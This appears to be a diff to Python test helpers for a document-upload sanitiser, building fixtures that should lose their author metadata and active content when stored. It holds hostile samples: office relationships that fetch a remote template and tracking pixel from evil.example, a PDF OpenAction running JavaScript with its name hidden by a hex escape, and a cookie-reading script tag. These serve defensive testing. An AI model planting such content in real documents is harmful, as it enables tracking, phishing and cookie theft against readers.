@@ -7,11 +7,26 @@ import zipfile
 from django.core.files.uploadedfile import SimpleUploadedFile
 from openpyxl import Workbook
 from PIL import Image
-from pypdf import PdfWriter
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import DictionaryObject, NameObject, StreamObject
 
 EXECUTABLE = (
     b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"
 )
+NAME = "Aigerim Seitova"  # the author a document must not betray
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+# Relationship parts of office documents that load something from outside on opening.
+RELATIONSHIPS = {
+    name: f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{line}</Relationships>'
+    for name, line in {
+        "remote template": f'<Relationship Id="r1" Type="{RELS}/attachedTemplate" '
+        'Target="http://evil.example/t.dotm" TargetMode="External"/>',
+        "linked object": f'<Relationship Id="r2" Type="{RELS}/oleObject" Target="file:///C:/x.xls" '
+        'TargetMode="External"/>',
+        "remote image": f"<Relationship Id='r3' Type='{RELS}/image' Target='http://evil.example/pixel.png' "
+        "TargetMode='External'/>",
+    }.items()
+}
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
 
 
@@ -111,3 +126,71 @@ def assert_no_metadata(content):
         assert not image.getexif(), dict(image.getexif())
         assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment"} & set(image.info)
     assert b"SecretCam" not in content and b"Reporter" not in content
+
+
+def pdf_with(author=None, xmp=None, open_action=None):
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    if author:
+        writer.add_metadata({"/Author": author, "/Creator": author})
+    if xmp:
+        stream = StreamObject()
+        stream.set_data(xmp)
+        writer._root_object[NameObject("/Metadata")] = writer._add_object(stream)
+    if open_action:
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(open_action)
+    output = io.BytesIO()
+    writer.write(output)
+    return output.getvalue()
+
+
+def docx_with(extra):
+    base = zipfile.ZipFile(io.BytesIO(docx_bytes()))
+    members = {name: base.read(name) for name in base.namelist()}
+    return zip_bytes({**members, **extra})
+
+
+def docx_with_authors():
+    """A DOCX as Word saves it: author and last editor in the core properties, the company in the app
+    properties, a comment with its author's name and initials."""
+    return docx_with(
+        {
+            "docProps/core.xml": '<cp:coreProperties xmlns:cp="cp" xmlns:dc="dc">'
+            f"<dc:creator>{NAME}</dc:creator><cp:lastModifiedBy>{NAME}</cp:lastModifiedBy></cp:coreProperties>",
+            "docProps/app.xml": f"<Properties><Company>{NAME} LLP</Company></Properties>",
+            "word/comments.xml": f'<w:comments xmlns:w="w"><w:comment w:id="0" w:author="{NAME}" w:initials="AS">'
+            "<w:p/></w:comment></w:comments>",
+        }
+    )
+
+
+def pdf_with_author():
+    """A PDF naming its author in the Info dictionary and in an XMP packet."""
+    return pdf_with(author=NAME, xmp=f"<x:xmpmeta><dc:creator>{NAME}</dc:creator></x:xmpmeta>".encode())
+
+
+def unpacked(content):
+    """The bytes of a document as a reader sees them: every member of an office document's archive
+    (packed, a name would not show in the file's own bytes), or the file itself."""
+    if not content.startswith(b"PK"):
+        return content
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return b"\n".join(archive.read(name) for name in archive.namelist())
+
+
+def assert_no_author(content):
+    """No author's name, initials or XMP survives in a stored document, and it is still a document."""
+    assert NAME.encode() not in unpacked(content) and b'"AS"' not in unpacked(content)
+    if content.startswith(b"%PDF-"):
+        reader = PdfReader(io.BytesIO(content))
+        assert not reader.metadata and "/Metadata" not in reader.trailer["/Root"] and len(reader.pages) == 1
+    else:
+        assert "word/document.xml" in zipfile.ZipFile(io.BytesIO(content)).namelist()
+
+
+def scripted_pdf(action="/JavaScript", hidden_as="/J#61vaScript"):
+    """A PDF that runs an action when opened, its name spelled with a #-hex escape."""
+    from pypdf.generic import TextStringObject
+
+    open_action = {NameObject("/S"): NameObject(action), NameObject("/JS"): TextStringObject("app.alert(1)")}
+    return pdf_with(open_action=open_action).replace(action.encode(), hidden_as.encode())
